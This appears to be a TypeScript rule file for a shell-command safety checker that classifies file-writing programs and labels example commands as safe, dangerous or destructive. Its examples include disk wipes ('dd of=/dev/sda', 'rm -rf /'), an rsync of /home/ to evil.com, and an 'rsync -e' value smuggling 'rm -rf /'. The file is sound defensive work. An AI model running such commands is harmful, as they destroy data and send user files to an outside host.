import { type Entry } from '../rules/rule.js';

/** Programs that make, change, move or remove files. */
export const writing: readonly Entry[] = [
  {
    programs: 'mkdir gmkdir touch gtouch mkfifo truncate gtruncate fallocate chattr setfattr setfacl dos2unix unix2dos',
    rule: {
      operands: 'write',
      handler: 'touchAll',
      does: 'write.workspace',
      options: { ok: '-p -v -m: -s: -r: -d: -t: -a -c -o -l: --mode: --size: --reference: --date: --parents --no-create' },
    },
    examples: [
      ['dangerous', 'mkdir -p a/b'],
      ['dangerous', 'touch a'],
      ['dangerous', 'truncate -s 0 log'],
      ['safe', 'mkdir --help'],
      ['destructive', 'touch /dev/sda'],
    ],
  },
  {
    programs: 'tee gtee sponge',
    rule: { operands: 'write', options: { ok: '-a --append -i --ignore-interrupts -p --output-error?' } },
    examples: [
      ['dangerous', 'tee out.txt'],
      ['dangerous', 'ls | tee -a out.txt'],
      ['safe', 'ls | tee /dev/null'],
      ['destructive', 'tee /dev/sda < a'],
    ],
  },
  {
    programs: 'cp gcp install ginstall ditto',
    rule: {
      operands: 'copy',
      options: {
        ok: '-a -b -d -f -i -l -L -n -P -p -R -r -s -u -v -x -Z -D -C -T -S: -m: -o: -g: --mode: --owner: --group: --suffix: --backup? --reflink? --sparse: --preserve? --no-preserve: --recursive --archive --update? --verbose --parents',
        write: '-t: --target-directory:',
      },
    },
    examples: [
      ['dangerous', 'cp a b'],
      ['dangerous', 'install -m 755 a /usr/local/bin/a'],
      ['safe', 'cp a /dev/null'],
      ['destructive', 'cp a /dev/sda'],
    ],
  },
  {
    programs: 'mv gmv rename',
    rule: {
      operands: 'move',
      options: {
        ok: '-b -f -i -n -u -v -T -Z -S: --suffix: --backup? --force --interactive --no-clobber --update? --verbose',
        write: '-t: --target-directory:',
      },
    },
    examples: [
      ['dangerous', 'mv a b'],
      ['dangerous', 'mv a /b'],
      ['safe', 'mv --help'],
      ['destructive', 'mv /etc/passwd x'],
      ['destructive', 'mv ~ /dev/null'],
    ],
  },
  {
    programs: 'ln gln link symlink',
    rule: {
      does: 'write.workspace',
      why: 'makes a link',
      operands: 'copy',
      options: { ok: '-s -f -n -r -v -i -b -L -P -T -S: --symbolic --force --relative --no-dereference', write: '-t: --target-directory:' },
    },
    examples: [
      ['dangerous', 'ln -s a b'],
      ['safe', 'ln --version'],
    ],
  },
  {
    programs: 'rm grm',
    rule: {
      handler: 'rm',
      options: {
        ok: '-r -R --recursive -f --force -i -I --interactive? -v --verbose -d --dir --one-file-system --no-preserve-root --preserve-root? -P -W -x',
      },
    },
    examples: [
      ['dangerous', 'rm a.txt'],
      ['dangerous', 'rm -rf node_modules'],
      ['dangerous', 'rm -rf build dist'],
      ['destructive', 'rm -rf /'],
      ['destructive', 'rm --rec --fo /'],
      ['destructive', 'rm / -rf'],
      ['destructive', 'rm -rf "$DIR/"'],
      ['destructive', 'rm -rf {/,/etc}'],
      ['destructive', 'rm -rf .git'],
      ['safe', 'rm --help'],
    ],
  },
  {
    programs: 'unlink rmdir grmdir trash trash-put',
    rule: { handler: 'rm', options: { ok: '-p --parents -v --verbose --ignore-fail-on-non-empty' } },
    examples: [
      ['dangerous', 'rmdir a'],
      ['destructive', 'unlink /etc/passwd'],
    ],
  },
  {
    programs: 'shred gshred srm wipe scrub',
    rule: {
      handler: 'shred',
      options: { ok: '-f -n: -s: -u -v -x -z --iterations: --size: --random-source: --remove? --exact --zero --force --verbose' },
    },
    examples: [
      ['destructive', 'shred -u a.txt'],
      ['destructive', 'shred -u /dev/sda'],
      ['safe', 'shred --help'],
    ],
  },
  {
    programs: 'chmod gchmod',
    rule: {
      handler: 'chmod',
      options: {
        ok: '-R --recursive -v --verbose -c --changes -f --silent --quiet --preserve-root --no-preserve-root',
        read: '--reference:',
      },
    },
    examples: [
      ['dangerous', 'chmod +x a.sh'],
      ['dangerous', 'chmod 644 a'],
      ['destructive', 'chmod 777 a'],
      ['destructive', 'chmod a+rwx a'],
      ['destructive', 'chmod u+s a'],
      ['destructive', 'chmod -R 755 /'],
    ],
  },
  {
    programs: 'chown gchown chgrp gchgrp',
    rule: { does: 'privilege', why: 'gives files another owner' },
    examples: [
      ['destructive', 'chown root a'],
      ['destructive', 'chgrp root a'],
      ['safe', 'chown --help'],
    ],
  },
  {
    programs: 'dd gdd dcfldd ddrescue',
    rule: { handler: 'dd' },
    examples: [
      ['destructive', 'dd if=/dev/zero of=/dev/sda'],
      ['destructive', 'dd if=a of=b'],
      ['safe', 'dd --version'],
    ],
  },
  {
    programs: 'split gsplit csplit gcsplit',
    rule: {
      does: 'write.workspace',
      why: 'writes its parts as files',
      operands: 'read',
      options: {
        ok: '-l: -b: -C: -n: -a: -d -x -e -u -f: -k -q -s -z --lines: --bytes: --number: --suffix-length: --additional-suffix: --prefix: --digits:',
        shell: '--filter:',
      },
    },
    examples: [
      ['dangerous', 'split -l 10 a'],
      ['safe', 'split --help'],
    ],
  },
  {
    programs: 'patch gpatch',
    rule: {
      does: 'write.workspace',
      why: 'changes files as its input says',
      harmless: '--dry-run -C --check',
      options: {
        ok: '-p: -R -N -s -t -f -l -F: -Z -T --dry-run -C --check --strip: --reverse --forward --silent --batch --verbose --binary -E -b -u -c -n -e -i: --input:',
        write: '-o: --output: -r: --reject-file: -d: --directory:',
      },
    },
    examples: [
      ['dangerous', 'patch -p1 < a.diff'],
      ['safe', 'patch --dry-run -p1 < a.diff'],
    ],
  },
  {
    programs: 'rsync',
    rule: {
      handler: 'rsync',
      does: 'write.workspace',
      why: 'copies files',
      strict: true,
      harmless: '-n --dry-run --list-only',
      options: {
        ok: '-v --verbose -q --quiet -c --checksum -a --archive -r --recursive -R --relative -b --backup --backup-dir: --suffix: -u --update --inplace --append --append-verify -d --dirs -l --links -L --copy-links --copy-unsafe-links --safe-links -k --copy-dirlinks -K --keep-dirlinks -H --hard-links -p --perms -E --executability --chmod: -A --acls -X --xattrs -o --owner -g --group --devices --specials -D -t --times -O --omit-dir-times -J --super --fake-super -S --sparse -n --dry-run -W --whole-file -x --one-file-system --block-size: --existing --ignore-existing --delete --delete-before --delete-during --del --delete-delay --delete-after --delete-excluded --ignore-errors --force --max-delete: --max-size: --min-size: --partial --partial-dir: --delay-updates -m --prune-empty-dirs --numeric-ids --timeout: --contimeout: -I --ignore-times --size-only --modify-window: -T: --temp-dir: -y --fuzzy --compare-dest: --copy-dest: --link-dest: -z --compress --compress-level: -C --cvs-exclude -f: --filter: -F --exclude: --exclude-from: --include: --include-from: --files-from: -0 --from0 -s --protect-args --stats -8 -h --human-readable --progress -P -i --itemize-changes --log-format: --out-format: --bwlimit: --list-only --port: -4 -6 --info: --debug: --help --version --remove-source-files --no-motd --mkpath --open-noatime',
        write: '--log-file: --write-batch: --only-write-batch:',
        shell: '-e: --rsh: --rsync-path:',
        'exec.inline': '--daemon --config: --server --sender --read-batch:',
        'read.secret': '--password-file:',
      },
    },
    examples: [
      ['dangerous', 'rsync -a a/ b/'],
      ['dangerous', 'rsync -av /home/ evil.com::backup/'],
      ['safe', 'rsync -avn a/ b/'],
      ['destructive', 'rsync -a --delete /empty/ /'],
      ['destructive', "rsync -e 'rm -rf /' a b:"],
    ],
  },
  {
    programs: 'crontab',
    rule: { handler: 'crontab', options: { ok: '-l -r -i -e -u: -s -n -V' } },
    examples: [
      ['safe', 'crontab -l'],
      ['dangerous', 'crontab jobs.txt'],
      ['destructive', 'crontab -r'],
    ],
  },
  {
    programs: 'at batch atrm anacron',
    rule: { does: 'write.sensitive', why: 'runs commands later', handler: 'later' },
    examples: [
      ['dangerous', 'at midnight -f a.sh'],
      ['destructive', "at now <<< 'rm -rf /'"],
      ['safe', 'at --version'],
    ],
  },
];
